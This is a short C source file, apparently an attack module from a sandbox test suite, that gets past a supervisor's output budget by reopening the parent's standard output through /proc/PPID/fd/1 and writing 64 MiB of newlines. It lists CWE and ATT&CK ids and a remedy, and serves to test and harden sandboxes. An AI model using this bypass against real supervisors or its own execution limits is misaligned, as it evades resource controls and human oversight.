// SPDX-License-Identifier: MIT
/*
 * supervisors-stdout.c - past the one who counts.
 *
 * Goal:  more output than the budget.
 * Means: who counts the output reads it from a pipe and writes it to the real one, which it has
 *        open: /proc/PPID/fd/1 opens that once more, for the program itself. Where nobody stands
 *        between, our own descriptor is the real one.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define MIB (1 << 20)

static enum claim run(const struct brief *b)
{
	static char lines[MIB];
	int out = STDOUT_FILENO;
	char path[32];

	memset(lines, '\n', sizeof(lines));
	snprintf(path, sizeof(path), "/proc/%d/fd/1", getppid());
	attempting(b);
	if (getppid() != b->worker)
		out = open(path, O_WRONLY);
	if (out < 0)
		return denied("open");
	for (int i = 0; i < 64; i++)
		if (write(out, lines, sizeof(lines)) < 0)
			return denied("write");
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "more output than the budget",
	.means = "the supervisor's standard output, opened as /proc/PPID/fd/1",
	.oracle = "usage:output",
	.attack_id = "T1499.003, CWE-400, CWE-668",
	.remedy = "a supervisor that is not dumpable; Landlock (no trace of its outside, no /proc)",
	.refs = (const char *const[]){ "proc_pid_fd(5)", "PR_SET_DUMPABLE(2const)", NULL },
	.run = run,
};
